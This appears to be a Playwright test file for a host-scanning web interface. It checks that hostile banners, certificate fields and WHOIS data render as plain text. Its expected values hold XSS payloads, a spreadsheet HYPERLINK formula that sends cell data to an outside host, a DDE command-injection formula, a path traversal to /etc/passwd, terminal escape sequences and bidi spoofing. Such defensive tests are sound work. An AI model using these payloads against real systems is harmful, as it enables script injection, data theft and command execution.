import type { Page } from 'playwright/test';
import { made } from './hostile/made';
import { allowClipboard, copiedText } from './support/clipboard';
import { facts } from './support/facts';
import { expect, test } from './support/fixtures';
import { gridCell, gridColumn, gridRows, hostPath, openPorts, portsGrid } from './support/portsGrid';

/** A host of the demo whose every text tries to be something else. */
const hostile = 'hostile.example';

test.use({ viewport: { width: 1600, height: 1300 } });

const drawer = (page: Page) => page.getByRole('dialog');

test('T01 nothing that a host sends becomes an element, a handler or a dialog', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await openPorts(page, hostile);
  await page.getByRole('button', { name: 'Show all 3 rules' }).click();
  expect(await made(page)).toEqual([]);
  expect(await facts(page.getByRole('region', { name: 'Host', exact: true }))).toMatchObject({
    Registrar: '"><svg onload=alert(3)>invoice‹RLO›fdp.exe‹PDF› end',
    Registrant: '<script>alert(1)</script> =HYPERLINK("https://collect.shop-metrics.test/?"&A1,"open")',
  });
  const ports = await gridColumn(page, 'Port');
  expect(ports).toHaveLength(15);
  for (const kind of ['banners', 'components', 'certificate']) {
    await openPorts(page, hostile, `open=${kind}%3A1001-tcp`);
    for (const port of ports) {
      await expect(drawer(page).getByRole('heading', { level: 2 })).toContainText(`${port}/tcp`);
      expect(await made(page), `${kind} of ${port}`).toEqual([]);
      if (port !== ports.at(-1)) await drawer(page).getByRole('button', { name: 'Next' }).click();
    }
  }
  expect(dialogs).toEqual([]);
});

test('T01 markup stands as text, in the grid, the drawers and the address host', async ({ page }) => {
  await openPorts(page, hostile);
  expect((await gridRows(page))[1]).toMatchObject({
    'Newest banner':
      '</textarea></title></style><svg/onload=alert(7)><a href="javascript:alert(8)">click</a>',
    Components: '"><img src=x onerror=alert(9)> 1.0',
    Certificate: '<script>alert(1)</script>',
  });
  await gridCell(page, '1001', 'Certificate').click();
  await expect
    .poll(() => facts(drawer(page)))
    .toMatchObject({
      Subject:
        '<script>alert(1)</script> · =HYPERLINK("https://collect.shop-metrics.test/?"&A1,"open") · invoice‹RLO›fdp.exe‹PDF› end · "<img src=x onerror=alert(2)>"@hostile.example · <b>',
    });
  await expect(drawer(page).getByRole('listitem')).toHaveText([
    '<img src=x onerror=alert(2)>',
    '*.hostile.example',
    '../../etc/passwd',
    '__proto__',
  ]);
  await expect(drawer(page).getByText('subject and issuer are the same')).toBeVisible();
  await page.goto(hostPath('192.0.2.66'));
  await expect
    .poll(() => facts(page.getByRole('region', { name: 'Host', exact: true })))
    .toMatchObject({
      'Autonomous system': 'AS65551 · <img src=x onerror=alert(2)> · <script>alert(1)</script>',
      'Country or region': '‹RLI›dnaltoN‹PDI› ‹U+200B›‹U+200D›‹U+FEFF›',
      Netblock: "=cmd|' /C calc'!A1",
    });
  expect(await made(page)).toEqual([]);
});

test.describe('T03 control characters', () => {
  test('can be seen in the grid and the drawer, each with its name', async ({ page }) => {
    const escapes = [...Array(0x20).keys(), ...Array.from({ length: 0x21 }, (_, index) => 0x7f + index)].map(
      (code) => `\\x${code.toString(16).padStart(2, '0')}`,
    );
    await openPorts(page, hostile);
    const [line = ''] = (await gridRows(page))
      .filter(({ Port }) => Port === '1011')
      .map((row) => row['Newest banner'] ?? '');
    // Five are white space, of which the line break stays, as a mark; the line ends after 200 characters.
    const inLine = [...escapes.slice(0, 9), ' ↵ ', ...escapes.slice(14)].join('');
    expect(line).toBe(`${inLine.slice(0, 200)}…`);
    await gridCell(page, '1011', 'Newest banner').click();
    const marks = drawer(page).locator('pre').getByTitle(/^U\+/);
    // The tab and the line break stay what they are; a carriage return without its line feed is none.
    await expect(marks).toHaveText(escapes.filter((escape) => !['\\x09', '\\x0a'].includes(escape)));
    await expect(marks.nth(0)).toHaveAttribute('title', 'U+0000 NUL');
    await expect(marks.filter({ hasText: '\\x1b' })).toHaveAttribute('title', 'U+001B ESC');
  });

  test('are not in the page itself, nor in copies', async ({ page }) => {
    await allowClipboard(page);
    // oxlint-disable-next-line no-control-regex -- control characters are what is looked for
    const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
    for (const port of ['1003', '1011']) {
      await openPorts(page, hostile, `open=banners%3A${port}-tcp`);
      await drawer(page).getByRole('button', { name: 'Copy text' }).click();
      await expect(drawer(page).getByRole('button', { name: 'Copied' })).toBeVisible();
      expect(await copiedText(page)).not.toMatch(controls);
      expect(await page.locator('body').evaluate((body) => body.textContent ?? '')).not.toMatch(controls);
    }
    await openPorts(page, hostile, 'open=banners%3A1003-tcp');
    await drawer(page).getByRole('button', { name: 'Copy text' }).click();
    await expect(drawer(page).getByRole('button', { name: 'Copied' })).toBeVisible();
    expect(await copiedText(page)).toBe(
      '[2J[1;31mroot[0m ]0;owned ]8;;https://collect.shop-metrics.test/\\here]8;;\\ 31m',
    );
  });
});

test.describe('T04 text that turns around or hides what stands beside it', () => {
  test('is marked, and none of it reaches the page as it came', async ({ page }) => {
    // Lone joiners and separators hide like the direction controls do; a joiner between pictures may stay.
    const hiding = /[\p{Bidi_Control}\u200b\u2060\ufeff\u00ad\u2028\u2029\p{Surrogate}]/u;
    await openPorts(page, hostile);
    expect(await page.locator('body').evaluate((body) => body.textContent ?? '')).not.toMatch(hiding);
    for (const port of ['1004', '1005', '1010']) {
      await openPorts(page, hostile, `open=banners%3A${port}-tcp`);
      expect(await page.locator('body').evaluate((body) => body.textContent ?? '')).not.toMatch(hiding);
    }
    await openPorts(page, hostile, 'open=banners%3A1004-tcp');
    await expect(drawer(page).locator('pre')).toHaveText(
      '220 invoice‹RLO›fdp.exe‹PDF› end ready ‹LRI›isolated‹PDI› ‹RLM›mark',
    );
    await expect(drawer(page).locator('pre').getByTitle(/^U\+/)).toHaveText([
      '‹RLO›',
      '‹PDF›',
      '‹LRI›',
      '‹PDI›',
      '‹RLM›',
    ]);
    await expect(drawer(page).getByTitle('U+202E RIGHT-TO-LEFT OVERRIDE')).toBeVisible();
  });

  test('is isolated, so that what follows it keeps its place', async ({ page }) => {
    await openPorts(page, hostile);
    const cells = portsGrid(page).locator('[role="gridcell"] bdi');
    const ways = await cells.evaluateAll((elements) =>
      elements.map((element) => getComputedStyle(element).unicodeBidi),
    );
    expect(ways.length).toBeGreaterThan(40);
    expect(new Set(ways)).toEqual(new Set(['isolate']));
    // The cell of a banner says how many others there are, behind the banner.
    await openPorts(page, '203.0.113.80');
    const order = await gridCell(page, '22', 'Newest banner').evaluate((cell) => {
      const [banner, count] = [cell.querySelector('bdi'), cell.querySelector('.quiet')];
      return (banner?.getBoundingClientRect().right ?? 0) <= (count?.getBoundingClientRect().left ?? -1);
    });
    expect(order).toBe(true);
  });

  test('does not hide in the title of the page', async ({ page }) => {
    await page.goto('/hosts/shop%E2%80%AEelpmaxe.test/ports');
    await expect(page).toHaveTitle('shop‹RLO›elpmaxe.test – Hostscope');
  });

  test('floods of marks on one letter are cut and counted', async ({ page }) => {
    await openPorts(page, hostile, 'open=banners%3A1006-tcp');
    await expect(drawer(page).locator('pre')).toHaveText(/^220 Z\p{Mark}{4}…\+896 marksalgo\s*$/u);
    await expect(drawer(page).getByTitle('896 marks on one letter left out')).toBeVisible();
  });

  test('halves of characters are shown as such', async ({ page }) => {
    await openPorts(page, hostile, 'open=banners%3A1010-tcp');
    await expect(drawer(page).locator('pre')).toHaveText('broken \ufffd and \ufffd halves');
  });
});

test('an empty banner is told from none', async ({ page }) => {
  await openPorts(page, hostile);
  expect((await gridRows(page)).find(({ Port }) => Port === '1013')).toMatchObject({
    'Newest banner': 'empty banner',
  });
  await gridCell(page, '1013', 'Port').click();
  await expect(drawer(page)).toContainText('An empty banner: the port answered without text.');
});
